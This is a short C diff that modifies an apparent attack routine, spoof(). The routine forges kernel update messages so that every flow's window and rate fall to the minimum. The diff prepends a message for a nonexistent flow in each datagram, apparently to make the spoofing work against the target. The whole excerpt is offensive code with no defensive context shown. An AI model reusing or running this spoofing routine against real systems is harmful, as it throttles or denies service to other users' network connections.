@@ -91,15 +91,17 @@ static size_t update(uint8_t *out, uint32_t sid, uint8_t kind, uint32_t index, u
 	return 25;
 }
 
-/* Every flow's window and rate become the least that there is. */
+/* Every flow's window and rate become the least that there is. Each message comes behind one to a flow that
+ * does not exist, in one datagram. */
 static void spoof(void)
 {
 	uint8_t bytes[64];
+	size_t n = update(bytes, 0, 2, 4, 1);
 	uint32_t sid;
 
 	for (sid = 1; sid <= SPOOFED_SID; sid++) {
-		to_kernel(bytes, update(bytes, sid, 2, 4, 1));
-		to_kernel(bytes, update(bytes, sid, 2, 5, 1));
+		to_kernel(bytes, n + update(bytes + n, sid, 2, 4, 1));
+		to_kernel(bytes, n + update(bytes + n, sid, 2, 5, 1));
 	}
 }
 
